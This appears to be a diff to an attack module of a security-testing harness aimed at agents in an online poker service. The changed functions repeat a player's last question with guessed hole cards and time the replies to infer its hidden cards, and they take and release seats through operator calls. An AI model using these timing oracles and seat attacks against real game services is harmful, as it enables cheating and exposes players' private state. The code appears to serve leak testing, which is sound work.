@@ -7,7 +7,7 @@ import time
 import unicodedata
 
 from casino.attack.attack import attack
-from casino.attack.bindings import BINDINGS, Json
+from casino.attack.bindings import Json
 from casino.attack.judge import by_answer
 from casino.attack.learn import read_events
 from casino.attack.outcome import Outcome, not_applicable, refused, succeeded
@@ -16,10 +16,14 @@ from casino.attack.reply import Depth
 from casino.attack.target import Agent, Room, Target, Token, Try
 
 _NO_PLAYERS = "no player's address is known (--player URL)"
+_NOBODY_SITS = "none of the players sits at an open table"
 _EVENTS = 400
-_AT_ONCE = 64
-_MUCH_FASTER = 0.25
+_GUESSES = 200
+"""So many at most: a player that remembers the last 256 answers would forget the one sought."""
+_AT_A_TIME = 8
+_MUCH_FASTER = 0.5
 _PAGE = 64_000
+_LOOKS, _LOOK_S = 50, 0.1
 
 
 def _question(room: Room | None, table_id: str) -> Json:
@@ -78,16 +82,14 @@ async def question_player(target: Target) -> Outcome:
     tries: list[Try] = []
     for player in target.players:
         for room in _rooms(target):
-            tries += await _ask(
-                target, player, room.table_id, target.tokens("table", room.table_id)
-            )
-    # A player that sits at another of these tables says no there.
-    return by_answer([one for one in tries if _sits(target, one.agent)])
+            if _sits(room, player):
+                tokens = target.tokens("table", room.table_id)
+                tries += await _ask(target, player, room.table_id, tokens)
+    return by_answer(tries) if tries else not_applicable(_NOBODY_SITS)
 
 
-def _sits(target: Target, player: Agent) -> bool:
-    names = {seat.get("displayName") for room in target.open_rooms for seat in room.seats}
-    return player.name in names
+def _sits(room: Room, player: Agent) -> bool:
+    return player.name in {seat.get("displayName") for seat in room.seats}
 
 
 @attack("seats", "C5", "M1")
@@ -125,10 +127,10 @@ async def invite_seated_player(target: Target) -> Outcome:
     }
     tries: list[Try] = []
     for player in target.players:
-        if _sits(target, player):
+        if _sits(room, player):
             await target.call(player, "signup", invitation)
             tries += await _ask(target, player, room.table_id, [ours])
-    return by_answer(tries) if tries else not_applicable("none of the players sits at a table")
+    return by_answer(tries) if tries else not_applicable(_NOBODY_SITS)
 
 
 @attack("seats", "C5")
@@ -136,7 +138,7 @@ async def repeat_question(target: Target) -> Outcome:
     """Ask a player its last question again with guessed hole cards: the right ones come at once."""
     if not target.players:
         return not_applicable(_NO_PLAYERS)
-    told: list[str] = []
+    outcomes: list[Outcome] = []
     for player in target.players:
         for room in _rooms(target):
             asked = await _its_last_question(target, room, player.name)
@@ -144,10 +146,10 @@ async def repeat_question(target: Target) -> Outcome:
                 outcome = await _oracle(target, player, asked)
                 if outcome.has_succeeded:
                     return outcome
-                told.append(outcome.evidence)
-    if not told:
+                outcomes.append(outcome)
+    if not outcomes:
         return not_applicable("no question to these players can be made from public events")
-    return refused(told[0])
+    return outcomes[0]
 
 
 async def _its_last_question(target: Target, room: Room, name: str) -> Json | None:
@@ -159,19 +161,26 @@ async def _its_last_question(target: Target, room: Room, name: str) -> Json | No
 
 
 async def _oracle(target: Target, player: Agent, question: Json) -> Outcome:
-    """Try every pair of hole cards; the player that remembers answers one much sooner."""
+    """Ask again with guessed cards; any answer is one too many, and a quick one tells the cards."""
     tokens = target.tokens("table", question["tableId"])
     first, *others = guesses(question)
-    for binding in BINDINGS:
-        for token in tokens:
-            one = await target.call(player, "act", first, token, binding)
-            if one.reply.depth is Depth.ANSWERED:
-                return await _by_time(target, player, [first, *others], token)
-    return refused(f"{len(tokens) * len(BINDINGS)} ways, and no answer at all")
+    tries = await target.call_over_all(player, "act", first, tokens)
+    answered = {one.token for one in tries if one.reply.depth is Depth.ANSWERED}
+    if not answered:
+        return refused(f"{len(tries)} ways, and no answer at all")
+    token = next(token for token in tokens if token.name in answered)
+    hits = await remembered(target, player, others[:_GUESSES], token)
+    told = f"{player.name} answers a guess at its cards"
+    if hits:
+        return succeeded(f"{told}, and one of {_GUESSES} at once: its hole cards are known")
+    return succeeded(f"{told}; none of {_GUESSES} came at once, of {len(others)} that can be")
 
 
-async def _by_time(target: Target, player: Agent, questions: list[Json], token: Token) -> Outcome:
-    at_a_time = asyncio.Semaphore(_AT_ONCE)
+async def remembered(
+    target: Target, player: Agent, questions: list[Json], token: Token
+) -> list[Json]:
+    """Return those questions that a player which takes time to think answered at once."""
+    at_a_time = asyncio.Semaphore(_AT_A_TIME)
 
     async def seconds(question: Json) -> float:
         async with at_a_time:
@@ -181,12 +190,11 @@ async def _by_time(target: Target, player: Agent, questions: list[Json], token: 
 
     took = await asyncio.gather(*map(seconds, questions))
     usual = statistics.median(took)
-    soon = [one for one in took if one < usual * _MUCH_FASTER]
-    if len(soon) == 1:
-        return succeeded(
-            f"{player.name} remembers one of {len(took)} guesses: its hole cards are known"
-        )
-    return refused(f"{len(took)} guesses were answered, and {len(soon)} of them sooner")
+    return [
+        question
+        for question, one in zip(questions, took, strict=True)
+        if one < usual * _MUCH_FASTER
+    ]
 
 
 @attack("seats", "M4")
@@ -229,6 +237,7 @@ async def _sign_up(target: Target, answer: Json) -> Outcome:
             return refused(f"the seat was not given: {reply.reason}")
         seat = reply.data if isinstance(reply.data, dict) else {}
         left = await target.rest("DELETE", f"{path}/{seat.get('playerId', '')}", as_operator=True)
+        await _until_gone(target, seat.get("playerId"))
     finally:
         await other.stop()
     undone = "undone: it left" if left.depth is Depth.ANSWERED else "not undone: it has the seat"
@@ -237,6 +246,17 @@ async def _sign_up(target: Target, answer: Json) -> Outcome:
         if shown != answer["displayName"]:
             return refused(f"the seat was given under another name; {undone}")
     return succeeded(f"the seat was given; {undone}")
+
+
+async def _until_gone(target: Target, player_id: object) -> None:
+    """Wait a little until a seat is free again: a player leaves when the hand is over."""
+    for _ in range(_LOOKS):
+        reply = await target.rest("GET", f"/v1/rooms/{target.seated_in}", as_operator=True)
+        room = reply.data if isinstance(reply.data, dict) else {}
+        seats = (room.get("summary") or {}).get("players")
+        if seats is not None and player_id not in {seat.get("playerId") for seat in seats}:
+            return
+        await asyncio.sleep(_LOOK_S)
 
 
 ATTACKS = (
